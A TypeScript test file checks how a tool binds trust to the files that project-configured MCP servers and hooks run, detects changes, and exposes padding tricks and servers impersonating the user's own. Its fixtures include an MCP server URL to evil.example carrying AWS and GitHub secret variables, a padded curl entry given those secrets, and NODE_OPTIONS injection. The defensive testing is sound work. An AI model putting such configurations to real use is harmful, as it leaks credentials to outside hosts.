import { mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { createPlace } from "../config/place.ts";

const evil = "process.exit(1)";
const others = (command: string): string =>
  `the MCP server's command ${command} may also run files that its command line does not name; a change of them is not noticed`;

interface Named {
  entry: object;
  /** What is there, and has to be bound. */
  files: string[];
  /** There too. */
  beside?: Record<string, string>;
  env?: Record<string, string>;
  /** The sentence for what is not bound names this command. */
  open?: string;
}

const named: Record<string, Named> = {
  "a variable's default": { entry: { command: "node", args: [`\${TOOLX:-./evil.js}`] }, files: ["evil.js"] },
  "a variable as it stands": {
    ...{ entry: { command: "node", args: [`\${TOOLX:-./other.js}`] }, files: ["evil.js", "other.js"] },
    env: { TOOLX: "evil.js" },
  },
  "a command that is a variable": { entry: { command: `\${TOOLX:-./bin/server}` }, files: ["bin/server"] },
  "a program found by PATH": {
    ...{ entry: { command: "server", env: { PATH: "./bin:/usr/bin" } }, files: ["bin/server"], open: "server" },
  },
  "a program found by the user's PATH": {
    ...{ entry: { command: "server" }, files: ["bin/server"], env: { PATH: "bin:/usr/bin" } },
  },
  "a working folder that is a variable": { entry: { command: "./s", cwd: `\${D:-sub}` }, files: ["sub/s"] },
  "a folder with index.js": { entry: { command: "node", args: ["."] }, files: ["index.js"] },
  "a folder with a package.json": {
    ...{ entry: { command: "node", args: ["./tool"] }, files: ["tool/lib/start.js", "tool/package.json"] },
    beside: { "tool/package.json": '{"main": "lib/start"}' },
  },
  "a name without its ending": { entry: { command: "node", args: ["--import", "./evil", "-e", "1"] }, files: ["evil.mjs"] },
  "a package in node_modules": {
    ...{ entry: { command: "node", args: ["-r", "evil", "-e", "1"] }, files: ["node_modules/evil/index.js"], open: "node" },
  },
  "a module": { entry: { command: "python3", args: ["-m", "evilmod"] }, files: ["evilmod.py"] },
  "a module of a package": {
    entry: { command: "python3.12", args: ["-mevil.mod"] },
    files: ["evil/mod/__main__.py"],
  },
  "a module where PYTHONPATH looks": {
    ...{ entry: { command: "python3", args: ["-m", "evil"], env: { PYTHONPATH: "lib" } }, files: ["lib/evil.py"] },
    open: "python3",
  },
  "what NODE_OPTIONS names": {
    entry: { command: "some-tool", env: { NODE_OPTIONS: "--require ./evil" } },
    files: ["evil.cjs"],
  },
  "a package's program": {
    ...{ entry: { command: "npx", args: ["-y", "some-server@1.2.3"] }, files: ["node_modules/.bin/some-server"], open: "npx" },
  },
  "the project's own program": {
    ...{ entry: { command: "npx", args: ["-y", "own"] }, files: ["cli.js", "package.json"], open: "npx" },
    beside: { "package.json": '{"name": "x", "bin": {"own": "cli.js"}}' },
  },
};

test.each(Object.entries(named))("trust is bound to %s", async (_name, { entry, files, beside = {}, env = {}, open }) => {
  const place = createPlace();
  for (const file of files) place.write(file, beside[file] ?? evil);
  place.write(".mcp.json", { mcpServers: { a: entry } });
  const fresh = await place.load({ env });
  expect(fresh.trust.parts.slice(1).map(({ what }) => what)).toEqual([
    ...files.map((file) => `the file ${file}, as it is now, run by an MCP server`),
    ...(open === undefined ? [] : [others(open)]),
  ]);
  await fresh.host().trust("grant");
  const trusted = await place.load({ env });
  const [{ source = "" } = {}] = trusted.mcp.servers;
  expect([trusted.trust.state, trusted.changedScripts(source)]).toEqual(["trusted", []]);
  const [first = ""] = files;
  const changed = place.write(first, `${place.read(join(place.project, first))}\n`);
  expect(trusted.changedScripts(source)).toEqual([changed]);
  expect((await place.load({ env })).trust.state).toBe("changed");
});

test("a file that comes where a word leads is a change, and so is what a link in node_modules/.bin leads to", async () => {
  const place = createPlace();
  place.write("node_modules/some-server/cli.js", evil);
  mkdirSync(join(place.project, "node_modules/.bin"));
  symlinkSync("../some-server/cli.js", join(place.project, "node_modules/.bin/some-server"));
  place.write(".mcp.json", {
    mcpServers: { a: { command: "npx", args: ["some-server"] }, b: { command: "node", args: ["./late"] } },
  });
  const fresh = await place.load();
  expect(fresh.trust.parts.slice(2).map(({ what }) => what)).toEqual([
    "the file node_modules/some-server/cli.js, as it is now, run by an MCP server",
    "the link node_modules/.bin/some-server to ../some-server/cli.js, run by an MCP server",
    others("npx"),
    others("node"),
  ]);
  await fresh.host().trust("grant");
  const trusted = await place.load();
  const late = place.write("late.js", evil);
  expect(trusted.changedScripts(trusted.mcp.servers[1]?.source ?? "")).toEqual([late]);
  expect((await place.load()).trust.state).toBe("changed");
});

test.each(["npx -y some-server", "uvx server", "pipx run server", "docker compose up", "go run .", "cargo run", "make serve"])(
  "that %s may run what trust does not bind is said",
  async (line) => {
    const place = createPlace();
    const [command = "", ...args] = line.split(" ");
    place.write(".mcp.json", { a: { command, args } });
    expect((await place.load()).trust.parts.at(-1)?.what).toBe(others(command));
  },
);

test("a hook is bound to the modules that its line names", async () => {
  const place = createPlace();
  place.write("guard.py", "");
  const hooks = { Stop: [{ hooks: [{ type: "command", command: "python3 -m guard" }] }] };
  place.write("gantry.config.json", { hooks });
  const { trust } = await place.load();
  expect(trust.parts.at(-1)?.what).toBe("the file guard.py, as it is now, run by a hook");
});

const secrets = `\${AWS_SECRET_ACCESS_KEY}\${GITHUB_TOKEN}`;
const given = "; it is given $AWS_SECRET_ACCESS_KEY, $GITHUB_TOKEN";

test("no padding hides what a server is given, where it is or what it starts", async () => {
  const place = createPlace();
  const pad = "x".repeat(60_000);
  const file = place.write(".mcp.json", {
    far: { url: `https://evil.example/${"p/".repeat(400)}?q=${secrets}` },
    args: { command: "node", args: [pad, "-e", `"${secrets}"`] },
    env: { command: "curl", env: { PAD: pad, K: secrets }, args: Array.from({ length: 900 }, () => "padding") },
    odd: { url: `https://\${LANG:-?}.evil.example/`, sampling: { answer: "allow" } },
  });
  const { trust, problems } = await place.load();
  const [far = "", args = "", env = "", odd = ""] = trust.parts.map(({ what }) => what);
  expect(problems).toEqual([]);
  expect(far).toMatch(/^MCP server far: https:\/\/evil\.example\/p\//);
  expect(env).toMatch(/^MCP server env: PAD=x+…\(60000 letters\)…x+ K=.* curl padding /);
  expect(args).toMatch(/^MCP server args: node x+…\(60000 letters\)…x+ -e /);
  for (const words of [far, args, env]) expect([words.endsWith(given), words.length < 5_000]).toEqual([true, true]);
  expect(odd).toBe(
    `MCP server odd: https://\${LANG:-?}.evil.example/; it may ask your model without a question; it is given $LANG`,
  );
  expect(trust.parts[0]?.source).toBe(`${file}:2`);
});

test("an entry whose words are too many to be shown whole is left out", async () => {
  const place = createPlace();
  const many = Array.from({ length: 51 }, (_, at) => `V${at}`);
  place.write(".mcp.json", {
    takes: { command: "x", args: many.map((name) => `\${${name}:-}`) },
    sets: { command: "x", env: Object.fromEntries(many.map((name) => [name, "1"])) },
    far: { url: `https://x.example/${"a".repeat(1_000)}` },
    long: { command: `./${"a".repeat(1_000)}` },
    name: { command: "x", args: [`\${${"N".repeat(201)}:-}`] },
  });
  const { trust, problems } = await place.load();
  expect(trust.parts).toEqual([]);
  expect(problems.map(({ message }) => message)).toEqual([
    "MCP server takes: it takes 51 variables; a server takes at most 50; it is left out",
    "MCP server sets: it sets 51 variables; a server sets at most 50; it is left out",
    "MCP server far: its url is longer than 1000 letters; it is left out",
    "MCP server long: its command is longer than 1000 letters; it is left out",
    "MCP server name: it takes a variable whose name has 201 letters; it is left out",
  ]);
});

test("a project's server never stands in place of one of the user's", async () => {
  const place = createPlace();
  const long = `${"a".repeat(50)}`;
  const { mcpPrefix } = await import("../../core/contract/mcp-names.ts");
  const cut = mcpPrefix(long).slice("mcp__".length, -2);
  const user = place.writeUser("config.json", {
    mcpServers: { docs: { command: "mine" }, "my site": { command: "off", enabled: false }, [long]: { command: "mine" } },
  });
  place.write(".mcp.json", {
    docs: { command: "theirs" },
    my_site: { url: "https://theirs.example" },
    [cut]: { command: "theirs" },
    fine: { command: "theirs" },
  });
  place.write("gantry.config.json", { mcpServers: { docs: { timeout: 5 } } });
  const loaded = await place.load({ flags: { trust: true } });
  const transports = loaded.mcp.servers.map(({ name, transport }) => [name, "command" in transport && transport.command]);
  expect(transports).toEqual([
    ["docs", "mine"],
    [long, "mine"],
    ["fine", "theirs"],
  ]);
  expect(loaded.mcp.servers[0]?.callTimeoutMs).toBe(5);
  const said = (name: string, own: string, line: number, prefix: string): string =>
    `MCP server ${name}: it would stand in place of yours, ${own} (${user}:${line}), and rules and answers for ${prefix}… would hold for the project's program; it is left out`;
  expect(loaded.problems.map(({ message, severity }) => [severity, message])).toEqual([
    ["warning", said("docs", "docs", 3, "mcp__docs__")],
    ["warning", said("my_site", "my site", 6, "mcp__my_site__")],
    ["warning", said(cut, long, 10, mcpPrefix(long))],
  ]);
  expect(loaded.trust.parts.map(({ what }) => what)).toEqual([
    "MCP server fine: theirs",
    "MCP server docs: with other settings: timeout 5",
  ]);
});
